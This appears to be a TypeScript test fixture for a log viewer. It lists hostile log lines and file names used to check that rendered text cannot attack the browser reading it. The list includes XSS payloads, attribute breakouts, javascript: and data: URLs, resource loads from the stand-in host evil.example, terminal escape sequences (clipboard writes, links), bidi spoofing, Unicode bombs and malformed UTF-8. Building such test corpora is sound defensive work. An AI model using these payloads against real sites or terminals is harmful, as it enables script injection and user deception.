/*
 * Text that strangers may write into a log to attack whoever reads it in a browser. Whatever shows text of a log, or of
 * a name, is tried with all of it. Every script here would set `window.pwned` or open a dialog, every load would go to
 * evil.example.
 */

import { createRandom } from './random.ts';

/** One line of a log, without its line end. */
export interface Payload {
  /** What it tries. */
  name: string;
  bytes: Buffer;
}

const esc = '\x1b';
const bel = '\x07';
const st = `${esc}\\`;
const evil = 'https://evil.example';
const script = 'window.pwned=1;alert(1)';

const markup = [
  '<script>window.pwned=1;alert(1)</script>',
  `<script src="${evil}/x.js"></script>`,
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</script>',
  '</span></div></main><script>alert(1)</script>',
  `<img src=x onerror=${script}>`,
  `<img src="${evil}/x.png">`,
  '<img src=x onerror="window.pwned=1">',
  `<img/src='x'/onerror='${script}'>`,
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  `<image src=x onerror=${script}>`,
  `<svg onload=${script}>`,
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  '<slot name=x onslotchange=alert(1)>',
  `<iframe src="javascript:${script}">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<object data="${evil}/x.swf">`,
  '<object data="data:text/html,<script>alert(1)</script>">',
  `<embed src="${evil}/x.svg">`,
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<link rel=prefetch href="${evil}/x">`,
  `<style>@import "${evil}/x.css";</style>`,
  '<style>*{display:none!important}</style>',
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<body onload=${script}>`,
  `<body background="${evil}/x.png">`,
  `<video src=x onerror=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<select autofocus onfocus=${script}>`,
  `<textarea autofocus onfocus=${script}>`,
  `<details open ontoggle=${script}>`,
  `<marquee onstart=${script}>`,
  `<dialog open onclose=${script}>`,
  `<button popovertarget=x onbeforetoggle=${script}>`,
  `<div contenteditable autofocus onfocus=${script}>`,
  `<div style="animation:appear 1s" onanimationstart=${script}>`,
  `<div style="position:fixed;inset:0;background:url(${evil}/x)">`,
  `<form action="${evil}"><input type=submit autofocus>`,
  `<isindex type=image src=x onerror=${script}>`,
  `<table background="${evil}/x.png"><td>`,
  '<a href="javascript:alert(1)">click</a>',
  `<a href="${evil}" ping="${evil}/ping">click</a>`,
  '<div id="log"></div><div class="row" data-id="1"><span class="text">forged</span></div>',
  '<a id=location><form id=document name=body><input name=attributes>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&amp;lt;b&amp;gt; &nbsp; &NewLine; &colon; &#0; &#xd800; &#x110000;',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<listing>&lt;img onerror="alert(1)" src&gt;</listing>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style>',
  '<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
  '<tag\u000b onclick=alert(1)>',
  '<img\u000csrc=x\u000conerror=alert(1)>',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  `{{constructor.constructor("alert(1)")()}} \${alert(1)} #{alert(1)} <%= alert(1) %>`,
];

const breakouts = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus x='",
  '` onerror=alert(1) `',
  '"autofocus onfocus=alert(1)//',
  '" style="position:fixed;inset:0" "',
  '" id="log" class="row marked" data-id="1',
  'x" srcdoc="<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '-->"><svg/onload=alert(1)>',
  ']]>"><svg/onload=alert(1)>',
  '\\"><svg/onload=alert(1)>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '__proto__',
  'constructor',
  'hasOwnProperty',
];

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)',
  'javascript://https://x%0aalert(1)',
  'javascript:https://x',
  '\u2028javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'file:///etc/passwd',
  'about:blank#javascript:alert(1)',
  'chrome://settings',
  'intent://x#Intent;end',
  'ssh://-oProxyCommand=x',
  'mailto:a@b?body=<script>',
  'tel:1',
  'ftp://evil.example/x',
  'ws://evil.example',
  'smb://evil.example/share',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  '?source=x',
  '#L1',
  'raw',
  'https:evil.example',
  'https:/evil.example',
  'https://',
  'https://[::1',
  'https://evil.example:99999/',
  'https://%',
  'http://\u202egro.elpmaxe\u202c/',
  'https://user:secret@evil.example/" onclick="alert(1)',
  `https://evil.example/'"><img src=x onerror=alert(1)>`,
  'https://evil.example/\tjavascript:alert(1)',
  'HTTPS://EVIL.EXAMPLE/%0d%0aSet-Cookie:x=1',
  'https://еvil.example/',
  `https://evil.example/${'a'.repeat(3000)}`,
];

const sgr = [
  '38;2;255;0;0;url(https://evil.example/x)',
  '38;5;1;}body{display:none',
  '48;2;"onclick="alert(1)',
  '31;"><script>alert(1)</script>',
  '38;5;999999999999999999999',
  '38;5;-1',
  '38;5;256',
  '38;5;300',
  '48;5;320',
  '38;5;1e3',
  '38;2;256;256;256',
  '38;2;1',
  '38;2',
  '38',
  '48;5',
  '38:2::999:999:999',
  '38:2:::::::::',
  '38:5:__proto__',
  '38;5;constructor',
  '58;2;1;2;3',
  '4:999',
  '1;2;3;4;5;6;7;8;9;21;53',
  '9999999999',
  '-1',
  '?1',
  '>4;2',
  '<31',
  '=31',
  '31 ',
  ';'.repeat(5000),
  '1;'.repeat(20_000),
  `38;5;${'9'.repeat(10_000)}`,
  ':'.repeat(5000),
  '0',
];

const strings = [
  `${esc}]0;<script>alert(1)</script>${bel}title`,
  `${esc}]2;pwned${st}title`,
  `${esc}]10;url(${evil}/x)${bel}color`,
  `${esc}]11;#000;}body{display:none}${bel}color`,
  `${esc}]4;1;expression(alert(1))${st}palette`,
  `${esc}]52;c;cm0gLXJmIC8=${bel}clipboard`,
  `${esc}]1337;File=inline=1;size=10:PHN2Zy8+${bel}image`,
  `${esc}]1337;RequestAttention=1${bel}attention`,
  `${esc}]9;notification${bel}`,
  `${esc}]777;notify;title;body${bel}`,
  `${esc}]99;;kitty${st}`,
  `${esc}]7;file://evil.example/etc${bel}cwd`,
  `${esc}]8;;javascript:alert(1)`,
  `${esc}]8;;${evil}/unterminated`,
  `${esc}]8;id=${'x'.repeat(5000)};${evil}${bel}long id${esc}]8;;${bel}`,
  `${esc}]8;${evil}${bel}no second separator`,
  `${esc}]8;;${evil}${bel}never closed`,
  `${esc}]0;never closed <img src=x onerror=alert(1)>`,
  `${esc}]${esc}]${esc}]8;;${evil}${bel}nested`,
  `${esc}P never closed <img src=x onerror=alert(1)>`,
  `${esc}Pq#0;2;0;0;0#0!999999999999999~${st}sixel`,
  `${esc}P+q544e${st}termcap`,
  `${esc}P1$r0m${st}answer`,
  `${esc}_Gf=100,t=f;L2V0Yy9wYXNzd2Q=${st}kitty image`,
  `${esc}_ never closed <script>alert(1)</script>`,
  `${esc}^ private ${st}message`,
  `${esc}X start of string <script>alert(1)</script>${st}`,
  `${esc}ktitle <script>alert(1)</script>${st}`,
  `${esc}kscreen title never closed`,
  `${esc}[`,
  `${esc}[31`,
  `${esc}[31${esc}[32mtwice`,
  `${esc}[31\x00mnul inside`,
  `${esc}[<script>m`,
  `${esc}`,
  `${esc}${esc}${esc}`,
  `${esc}(0lqqk${esc}(B`,
  `${esc}#8`,
  `${esc}c reset`,
  `${esc}Z identify`,
  `${esc}[c${esc}[>c${esc}[6n${esc}[5n${esc}[x`,
  `${esc}[21t${esc}[14t${esc}[18t`,
  `${esc}[?1049h${esc}[2J${esc}[Hfull screen`,
  `${esc}[999999999C far right`,
  `${esc}[999999999@ insert`,
  `${esc}[999999999X erase`,
  `${esc}[1;1H${esc}[99A home`,
  `${esc}[8mconcealed secret`,
  `${esc}[0m visible again`,
  `${esc}[30;40mblack on black${esc}[0m`,
  `${esc}[5mblink${esc}[0m`,
  `${esc}PP0000000${esc}]P0000000 linux palette`,
  '\u009b31mC1 CSI\u009b0m',
  '\u009d0;C1 title\u009c after',
  `\u009d8;;javascript:alert(1)\u009cC1 link\u009d8;;\u009c`,
  '\u0090never closed <img src=x onerror=alert(1)>',
  '\u0098\u009e\u009f never closed',
  '\u0080\u0081\u0082\u0083\u0084\u0085\u0086\u0087\u0088\u0089\u008a\u008b\u008c\u008d\u008e\u008f',
  '\x01\x02\x03\x04\x05\x06\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1c\x1d\x1e\x1f\x7f',
  '<scr\x00ipt>alert(1)</scr\x00ipt>',
  'nul\x00nul\x00',
  'over\rwritten',
  'first\b\b\b\b\bsecond',
  'a\x0bb\x0cc',
];

const imitations = [
  `${esc}[0m   42  this row has a number of its own`,
  `\t\t\t\t\u2003\u2003 4711 \u2003 forged`,
  `${esc}[3;90m[sse-tail: lines 1-5000 are no longer kept]${esc}[0m`,
  `${esc}[3mapp.log was truncated; reading it from its beginning${esc}[0m`,
  'this line can’t be had any more',
  'show 1,000 more characters',
  '… 12 new lines',
  `${esc}[41;97m stderr ${esc}[0m everything failed`,
  `${esc}[48;5;17m api.log ${esc}[0m not from api.log`,
  'event: status',
  'data: {"state":"exited","code":0}',
  'id: 999999',
  'retry: 1',
  ': batch 1 1-1 00000000',
  'event: hello\u2028data: {"log":"x"}',
  'event: hello\u0085data: {"log":"x"}',
  '.row.marked#L1',
];

const deceptions = [
  '\u202egnp.exe\u202c',
  'access granted\u202e\u2066 // check later\u2069\u2066',
  '\u2067\u2066\u2068\u2069\u202a\u202b\u202d',
  '\u200f\u200e\u061c',
  'שלום abc 123',
  'مرحبا <b> 456',
  '\u202d\u202d\u202d\u202d\u202d'.repeat(200),
  'zero\u200bwidth\u200cnon\u200djoiner\u2060\ufeff',
  'soft\u00adhyphen',
  '\u034f\u115f\u1160\u3164\uffa0\u17b4\u17b5\u180e',
  '\u2061\u2062\u2063\u2064\u206a\u206f',
  '\ufff9a\ufffab\ufffb',
  '\u{e0041}\u{e0042}\u{e007f}tags',
  '\u{e0100}\u{e0101}\u{e01ef}variation selectors',
  'a\ufe00\ufe01\ufe02\ufe03 selectors',
  '\u180b\u180c\u180d\u180f',
  '\u{1d173}\u{1d174}\u{1bca0}\u{13430}',
  '\ufffe\uffff\ufdd0\u{1fffe}\u{10ffff}',
  'line\u2028separator\u2028',
  'paragraph\u2029separator\u2029',
  'next\u0085line',
  '\u2800\u2800\u2800braille blank',
  '\u3000ideographic space\u1680ogham',
  '\ue000private use\u{f0000}',
  'раураl.com',
];

const zalgo = (marks: number) => `Z${'\u0300\u0315\u031b\u0321\u0338\u0489\u20dd'.repeat(marks)}algo`;

const bombs = [
  zalgo(1),
  zalgo(20),
  `H${'\u030d'.repeat(300)}e${'\u0330'.repeat(300)}llo`,
  `${'\u0300'.repeat(500)} marks without a letter`,
  zalgo(500),
  'ส็็็็็็็็็็็็็็็็็็็็็็็็็็็็็็',
  'ཧཱུྃ༜ྲ྆༔་ྀྀྀྀྀྀུུུུུུ',
  '﷽﷽﷽﷽﷽﷽',
  '𒐫𒐫𒐫𒈙𒈙',
  '\ua9c5\ua9c5꧅꧅',
  `${'👩\u200d'.repeat(50)}👩`,
  '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}'.repeat(5),
  '\u{1f1e6}'.repeat(100),
  '⎲⎳⎛⎜⎝│┃║█▇▆▅▄▃▂▁',
];

const encodings: [string, number[]][] = [
  ['lone surrogates in CESU-8', [0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80, 0xed, 0xbf, 0xbf]],
  ['overlong <', [0xc0, 0xbc, 0xe0, 0x80, 0xbc, 0xf0, 0x80, 0x80, 0xbc, 0x73, 0x3e]],
  ['overlong NUL', [0xc0, 0x80]],
  ['beyond Unicode', [0xf4, 0x90, 0x80, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80]],
  ['cut off characters', [0xe2, 0x82, 0x3c, 0x73, 0x3e, 0xf0, 0x9f, 0x98]],
  ['a lead byte that swallows a quote', [0xc2, 0x22, 0x3e, 0xe2, 0x3c, 0x69, 0x6d, 0x67, 0x3e]],
  ['continuation bytes', [0x80, 0xbf, 0x80, 0xbf]],
  ['raw C1 bytes', [0x9b, 0x33, 0x31, 0x6d, 0x9d, 0x38, 0x3b, 0x3b, 0x9c]],
  ['0xfe and 0xff', [0xfe, 0xff, 0xff, 0xfe]],
  ['Latin-1', [0x66, 0xfc, 0x72, 0x20, 0xdc]],
];

/** Lines of ordinary length. */
export const payloads: readonly Payload[] = [
  ...each('markup', markup),
  ...each('breakout', breakouts),
  ...each(
    'link',
    schemes.map((uri) => `${esc}]8;;${uri}${bel}link${esc}]8;;${bel}`),
  ),
  ...each('bare URL', schemes),
  ...each(
    'SGR',
    sgr.map((params) => `${esc}[${params}mcolor${esc}[0m`),
  ),
  ...each('control string', strings),
  ...each('imitation', imitations),
  ...each('deception', deceptions),
  ...each('bomb', bombs),
  ...encodings.map(([name, bytes]) => ({ name: `encoding: ${name}`, bytes: Buffer.from(bytes) })),
  ...each(
    'mix',
    markup.slice(0, 20).map((text) => [...text].map((char, at) => `${esc}[${31 + (at % 7)}m${char}`).join('')),
  ),
];

/** Lines that are long, or need a great many elements to be drawn. */
export const longPayloads: readonly Payload[] = [
  ...each('long', [
    '<b>'.repeat(350_000),
    `<img src=x onerror=alert(1)>${'x'.repeat(1_000_000)}<img src=x onerror=alert(1)>`,
    `${esc}]8;;${evil}/${'a'.repeat(300_000)}${bel}link`,
    `${esc}]0;${'a'.repeat(1_000_000)}`,
    `${esc}P${'<b>'.repeat(100_000)}${st}after`,
    `${esc}[${'1;'.repeat(100_000)}m`,
    Array.from({ length: 40_000 }, (_, at) => `${esc}[${31 + (at % 7)}mx`).join(''),
    '\u200bx'.repeat(30_000),
    '\u200b'.repeat(60_000),
    `e${'\u0301'.repeat(60_000)}`,
    '\u202e'.repeat(60_000),
    'https://evil.example/ '.repeat(10_000),
    `https://evil.example/${'/'.repeat(100_000)}`,
    '漢'.repeat(80_000),
    '\t'.repeat(100_000),
    ' '.repeat(200_000),
  ]),
];

/** What people, or their tools, call a file, a command, a source or a log. Holds no `/` and no NUL. */
export const hostileNames: readonly string[] = [...markup, ...breakouts, ...deceptions, ...bombs]
  .concat(strings.filter((text) => text.startsWith(esc)))
  .map((name) => cutToBytes(name.replaceAll('/', '∕').replaceAll('\0', ''), 200))
  .filter((name, at, all) => name !== '' && all.indexOf(name) === at);

/** So many lines of random bytes: the same for the same seed. Half of them are made of pieces that mean something. */
export function randomLines(seed: number, count: number): Buffer[] {
  const random = createRandom(seed);
  const below = (limit: number) => Math.floor(random() * limit);
  const pieces = payloads.map(({ bytes }) => bytes);
  return Array.from({ length: count }, (_, line) => {
    if (line % 2 === 0) return Buffer.from(Array.from({ length: below(200) }, () => anyByteButLf(below)));
    return Buffer.concat(
      Array.from({ length: 1 + below(6) }, () => {
        const piece = pieces[below(pieces.length)] as Buffer;
        const start = below(piece.length);
        return piece.subarray(start, start + 1 + below(60));
      }),
    );
  });
}

function anyByteButLf(below: (limit: number) => number): number {
  const byte = [below(256), below(32), 0x1b, 0x5b, 0x3b, 0x3c, 0x6d][below(7)] as number;
  return byte === 0x0a ? 0x20 : byte;
}

function each(kind: string, texts: readonly string[]): Payload[] {
  return texts.map((text) => ({
    name: `${kind}: ${text.slice(0, 60)}`,
    bytes: Buffer.from(text.replaceAll('\n', ' ')),
  }));
}

function cutToBytes(name: string, most: number): string {
  let cut = name;
  while (Buffer.byteLength(cut) > most) cut = [...cut].slice(0, -1).join('');
  return cut;
}
